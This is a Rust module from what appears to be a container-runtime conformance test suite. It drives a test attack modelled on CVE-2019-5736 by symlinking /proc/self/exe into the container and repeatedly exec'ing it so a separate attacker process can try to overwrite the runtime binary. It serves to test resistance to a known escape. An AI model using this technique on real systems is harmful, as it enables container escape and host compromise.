// SPDX-License-Identifier: Apache-2.0
//! Attacks on the runtime's program file.

use crate::Attack;
use crate::arena::Arena;
use conformance::attack::Count;
use conformance::{Doing, Result};
use std::os::unix::fs::symlink;
use std::sync::atomic::Ordering::SeqCst;
use std::time::{Duration, Instant};

pub(crate) const ATTACKS: &[Attack] = &[Attack {
    name: "overwrite the program through its mount",
    stands_for: "CVE-2019-5736: a container executes the runtime's own program, opens it in /proc/PID/exe, and \
                 makes its mount writable from a user namespace",
    run: overwrite,
}];

/// The slot in which the attacker says that it has made the program writable.
const CLEARED: usize = 3;

fn overwrite(arena: &Arena) -> Result<Count> {
    let attacker = arena.attacker(&["program", "overwrite", "10", "3"], |_| ())?;
    symlink("/proc/self/exe", attacker.bundle.rootfs("x")).doing("symlink")?;
    attacker.start()?;
    let mut count = Count::default();
    while count.tries < u64::from(arena.tries) && attacker.score.successes.load(SeqCst) == 0 {
        count.tries += 1;
        // It fails if the program is overwritten meanwhile.
        let _either = attacker.exec(&[], &["/x", "--version"])?;
        let end = Instant::now() + Duration::from_secs(6);
        while attacker.score.slots[CLEARED].load(SeqCst) == 1 && Instant::now() < end {
            std::thread::sleep(Duration::from_millis(1));
        }
    }
    arena.repair()?;
    attacker.stop()?;
    attacker.tally(count)
}
